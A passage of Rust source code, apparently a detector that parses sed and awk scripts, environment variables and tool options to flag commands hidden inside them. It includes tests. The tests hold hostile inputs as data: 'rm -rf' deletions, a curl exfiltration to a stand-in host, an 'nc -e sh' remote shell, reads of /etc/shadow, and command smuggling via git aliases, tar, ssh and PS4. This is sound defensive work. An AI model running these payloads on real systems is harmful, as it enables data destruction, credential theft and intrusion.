                c if c.is_ascii_digit() || c == b'.' => {
                    while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'.') {
                        i += 1;
                    }
                    toks.push(Tok::Operand);
                }
                _ => {
                    let two = p.get(i..i + 2).unwrap_or("");
                    let n = if matches!(
                        two,
                        "||" | "|&" | ">>" | ">=" | "<=" | "&&" | "==" | "!=" | "!~" | "++" | "--"
                    ) {
                        2
                    } else {
                        p[i..].chars().next().map_or(1, char::len_utf8)
                    };
                    toks.push(Tok::Punct(&p[i..i + n]));
                    i += n;
                }
            }
        }
        toks
    }

    fn ends(t: Option<&Tok>) -> bool {
        matches!(t, None | Some(Tok::Punct(";" | "\n" | "}" | ")" | "{")))
    }

    /// The effects of an awk program.
    pub(super) fn program(p: &str, out: &mut Vec<Found>) {
        let t = tokens(p);
        let opaque = |what: &str| Found::Opaque(format!("`awk` {what} built at run time"));
        let (mut in_print, mut depth) = (false, 0usize);
        for k in 0..t.len() {
            let next = |n: usize| t.get(k + n);
            match &t[k] {
                Tok::Ident("print" | "printf") => (in_print, depth) = (true, 0),
                Tok::Punct("(") => depth += 1,
                Tok::Punct(")") => depth = depth.saturating_sub(1),
                Tok::Punct(";" | "\n" | "{" | "}") => in_print = false,
                Tok::Ident("system") => match (next(1), next(2), next(3)) {
                    (Some(Tok::Punct("(")), Some(Tok::Str(s)), Some(Tok::Punct(")"))) => {
                        super::cmd("awk system()", &word(s, false), out)
                    }
                    _ => out.push(opaque("runs a command")),
                },
                Tok::Punct("|" | "|&") if next(1) == Some(&Tok::Ident("getline")) => {
                    let before = k.checked_sub(2).and_then(|j| t.get(j));
                    match k.checked_sub(1).and_then(|j| t.get(j)) {
                        Some(Tok::Str(s))
                            if before.is_none()
                                || ends(before)
                                || before == Some(&Tok::Punct("(")) =>
                        {
                            super::cmd("awk | getline", &word(s, false), out)
                        }
                        _ => out.push(opaque("reads from a command")),
                    }
                }
                Tok::Punct("|" | "|&") if in_print && depth == 0 => match next(1) {
                    Some(Tok::Str(s)) if ends(next(2)) => {
                        super::cmd("awk print |", &word(s, false), out)
                    }
                    _ => out.push(opaque("pipes into a command")),
                },
                Tok::Punct("|" | "|&") => out.push(opaque("pipes through a command")),
                Tok::Punct(">" | ">>") if in_print && depth == 0 => {
                    out.push(Found::Write(target(next(1), next(2))))
                }
                Tok::Ident("getline") => {
                    let lt = if next(1) == Some(&Tok::Punct("<")) {
                        1
                    } else {
                        2
                    };
                    if next(lt) == Some(&Tok::Punct("<")) {
                        out.push(Found::Read(target(next(lt + 1), next(lt + 2))));
                    }
                }
                _ => {}
            }
        }
    }

    /// A redirection's file: a string literal, or a path known only at run time.
    fn target(t: Option<&Tok>, after: Option<&Tok>) -> super::Word {
        match t {
            Some(Tok::Str(s)) if ends(after) => word(s, false),
            Some(Tok::Ident(i)) => word(&format!("${i}"), true),
            _ => word("$awk_expression", true),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmd_of(src: &str) -> SimpleCmd {
        let p = crate::shell::ShellParser::default().analyse(src);
        p.cmds.into_iter().last().expect("a command")
    }

    fn found(src: &str) -> Vec<Found> {
        scan(&cmd_of(src))
    }

    fn carried_texts(src: &str) -> Vec<String> {
        found(src)
            .into_iter()
            .filter_map(|f| match f {
                Found::Cmd { text, .. } => Some(text.text),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn sed_scripts() {
        assert_eq!(
            carried_texts("sed 'e rm -rf /srv/data' f"),
            ["rm -rf /srv/data"]
        );
        assert_eq!(carried_texts("sed -n -e '1e id' f"), ["id"]);
        assert_eq!(carried_texts("sed --expression='2e id' f"), ["id"]);
        assert_eq!(carried_texts("sed 's/.*/id/e' f"), ["id"]);
        assert!(found("sed 's/x/y/e' f")
            .iter()
            .any(|f| matches!(f, Found::Opaque(_))));
        assert!(found("sed '1e' f")
            .iter()
            .any(|f| matches!(f, Found::Opaque(_))));
        assert_eq!(
            found("sed 'w /etc/x' f"),
            [Found::Write(word("/etc/x", false))]
        );
        assert_eq!(
            found("sed 's/a/b/w out.txt' f"),
            [Found::Write(word("out.txt", false))]
        );
        assert_eq!(
            found("sed '1r /etc/shadow' f"),
            [Found::Read(word("/etc/shadow", false))]
        );
        assert!(found("sed -f /tmp/x.sed f")
            .iter()
            .any(|f| matches!(f, Found::Code { .. })));
        for ok in [
            "sed -n 1,5p f",
            "sed 's/a/b/g' f",
            "sed -i 's|/usr|/opt|g' f",
            "sed -ie 's/a/b/' f",
            "sed -E 's/(a|b)+/x/2' f",
            "sed '/^$/d;s/ *$//' f",
            "sed -n '/start/,/end/{/x/!p}' f",
            "sed ':a;N;$!ba;s/\\n/ /g' f",
            "sed '$a\\last line' f",
            "sed '1i header' f",
            "sed 'y/abc/xyz/' f",
            "sed -n '$=' f",
            "sed '0~3d' f",
            "sed '\\,foo,d' f",
            "sed -e 's/a/b/' -e '/x/q' f",
            "sed -e '{:q;N;s/\\n/ /g;t q}' f",
            "sed '/a/ {s//c/; :loop; n; b loop}' f",
            "sed -n 'h; :b; $b; N; /^x$/ { g; bb }; $ {x; b}; P; D' f",
        ] {
            assert_eq!(found(ok), [], "{ok}");
        }
    }

    #[test]
    fn awk_programs() {
        assert_eq!(carried_texts("awk 'BEGIN{system(\"id\")}'"), ["id"]);
        assert_eq!(carried_texts("awk 'BEGIN{print | \"sh\"}'"), ["sh"]);
        assert_eq!(carried_texts("awk 'BEGIN{\"date\" | getline d}'"), ["date"]);
        assert_eq!(carried_texts("gawk 'BEGIN{print |& \"cat\"}'"), ["cat"]);
        assert!(found("awk '{system($0)}' f")
            .iter()
            .any(|f| matches!(f, Found::Opaque(_))));
        assert!(found("awk '{print | $2}' f")
            .iter()
            .any(|f| matches!(f, Found::Opaque(_))));
        assert_eq!(
            found("awk '{print $1 > \"/etc/x\"}' f"),
            [Found::Write(word("/etc/x", false))]
        );
        assert!(matches!(&found("awk '{print > $2}' f")[..], [Found::Write(w)] if w.dynamic));
        assert_eq!(
            found("awk 'BEGIN{getline l < \"/etc/shadow\"}'"),
            [Found::Read(word("/etc/shadow", false))]
        );
        for ok in [
            "awk '{print $1}' f",
            "awk -F: '$3 > 100 {print $1}' /etc/passwd",
            "awk '/a|b/ {n++} END {print n}' f",
            "awk '{ if ($2 > 5) print $1; else print $2 }' f",
            "awk -v x=1 'NR==x' f",
            "awk '{s+=$1/2} END {printf(\"%d\\n\", s)}' f",
            "awk 'length($0) > 80' f",
            "awk '$1 ~ /^[|]/ {print}' f",
            "awk '{print ($1 > 5)}' f",
        ] {
            assert_eq!(found(ok), [], "{ok}");
        }
    }

    #[test]
    fn env_carriers() {
        assert_eq!(
            carried_texts("PAGER='sh -c \"rm -rf /srv\"' git log"),
            ["sh -c \"rm -rf /srv\""]
        );
        assert_eq!(
            carried_texts("LESSOPEN='|curl -d @x https://x.example %s' less f"),
            ["curl -d @x https://x.example %s"]
        );
        assert_eq!(
            carried_texts("export GIT_SSH_COMMAND='nc -e sh x 1'"),
            ["nc -e sh x 1"]
        );
        assert_eq!(carried_texts("declare -x EDITOR=/tmp/ed"), ["/tmp/ed"]);
        assert_eq!(carried_texts("PS4='$(id)' bash -x s.sh"), ["id"]);
        assert_eq!(
            carried_texts(
                "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm x' git log"
            ),
            ["rm x"]
        );
        assert_eq!(
            carried_texts("GIT_CONFIG_PARAMETERS=\"'alias.x'='!id'\" git x"),
            ["id"]
        );
        assert!(found("LD_PRELOAD=/tmp/x.so ls")
            .iter()
            .any(|f| matches!(f, Found::Class(RiskClass::Privilege, _))));
        assert!(found("PYTHONPATH=/tmp/evil python3 -c 1")
            .iter()
            .any(|f| matches!(f, Found::Code { .. })));
        assert_eq!(found("export PATH=/usr/local/bin:$PATH").len(), 1);
        assert_eq!(
            found("NODE_OPTIONS=--max-old-space-size=4096 node x.js"),
            []
        );
        assert!(found("NODE_OPTIONS='--require /tmp/x.js' node a.js")
            .iter()
            .any(|f| matches!(f, Found::Code { .. })));
    }

    #[test]
    fn option_grammars() {
        assert_eq!(carried_texts("env -S'rm -rf /srv' x"), ["rm -rf /srv"]);
        assert_eq!(carried_texts("env -iS 'rm -rf /srv'"), ["rm -rf /srv"]);
        assert_eq!(
            carried_texts("env --split-string='rm -rf /srv'"),
            ["rm -rf /srv"]
        );
        assert_eq!(
            carried_texts("env --split-string 'rm -rf /srv'"),
            ["rm -rf /srv"]
        );
        assert_eq!(carried_texts("env A=1 ls -S"), Vec::<String>::new());
        assert_eq!(carried_texts("git -c core.pager='rm x' log"), ["rm x"]);
        assert_eq!(carried_texts("git -c alias.x='!id' x"), ["id"]);
        assert_eq!(
            carried_texts("git -c alias.st=status st"),
            Vec::<String>::new()
        );
        assert_eq!(carried_texts("git clone -u 'sh -c id' r"), ["sh -c id"]);
        assert_eq!(carried_texts("git add -u"), Vec::<String>::new());
        assert_eq!(carried_texts("git bisect run make test"), ["make test"]);
        assert_eq!(
            carried_texts("git config alias.x '!rm -rf /'"),
            ["rm -rf /"]
        );
        assert_eq!(
            carried_texts("git config --get alias.x"),
            Vec::<String>::new()
        );
        assert_eq!(carried_texts("git commit -c HEAD"), Vec::<String>::new());
        assert_eq!(
            carried_texts("tar -xf a.tar --to-command='sh -c id'"),
            ["sh -c id"]
        );
        assert_eq!(carried_texts("tar -I 'sh -c id' -xf a.tar"), ["sh -c id"]);
        assert_eq!(
            carried_texts("tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id ."),
            ["id"]
        );
        assert_eq!(carried_texts("rsync -avze 'sh -c id' a b:"), ["sh -c id"]);
        assert_eq!(carried_texts("rsync --rsync-path='id' a b:"), ["id"]);
        assert_eq!(
            carried_texts("ssh -o ProxyCommand='nc x 22' h"),
            ["nc x 22"]
        );
        assert_eq!(
            carried_texts("ssh -oLocalCommand=id -o PermitLocalCommand=yes h"),
            ["id"]
        );
        assert_eq!(carried_texts("ssh h ls -o x"), Vec::<String>::new());
        assert_eq!(carried_texts("scp -S /tmp/x a h:b"), ["/tmp/x"]);
        assert_eq!(carried_texts("zip a.zip f -T -TT 'sh -c id'"), ["sh -c id"]);
        assert_eq!(carried_texts("vim -c ':!id' f"), ["id"]);
        assert_eq!(carried_texts("vim '+!id' f"), ["id"]);
        assert_eq!(carried_texts("less '+!id' f"), ["id"]);
        assert_eq!(carried_texts("man -P 'sh -c id' ls"), ["sh -c id"]);
        assert_eq!(carried_texts("make SHELL=/tmp/sh"), ["/tmp/sh"]);
        assert!(found("make --eval='x:'")
            .iter()
            .any(|f| matches!(f, Found::Opaque(_))));
        assert!(found("make -f -")
            .iter()
            .any(|f| matches!(f, Found::Opaque(_))));
        assert!(found("vim -c 'call system(\"id\")' f")
            .iter()
            .any(|f| matches!(f, Found::Opaque(_))));
        for ok in [
            "vim +10 f",
            "vim -c wq f",
            "less +G f",
            "more +/x f",
            "make -j4 test",
            "tar -czf a.tgz src",
            "git log -p",
            "man ls",
        ] {
            assert_eq!(found(ok), [], "{ok}");
        }
    }
}
